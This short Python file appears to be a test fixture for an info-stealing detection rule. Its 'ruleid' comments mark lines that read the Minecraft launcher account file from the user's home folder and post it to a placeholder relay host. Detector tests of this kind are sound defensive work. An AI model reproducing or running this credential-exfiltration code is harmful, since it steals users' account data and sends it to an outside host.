import os

import requests

HOOK = "https://relay.example.test/upload"


def send(files):
    requests.post(HOOK, files=files)


def read(path):
    if os.path.exists(path):
        with open(path, "rb") as f:
            return f.read()
    return None


def main():
    # ruleid: code/info-stealing
    p = os.path.join(os.path.expanduser("~"), "AppData", "Roaming", ".minecraft", "launcher_accounts.json")
    data = read(p)
    if data:
        # ruleid: code/info-stealing
        requests.post(HOOK, files={"f": ("a.json", data)})


main()
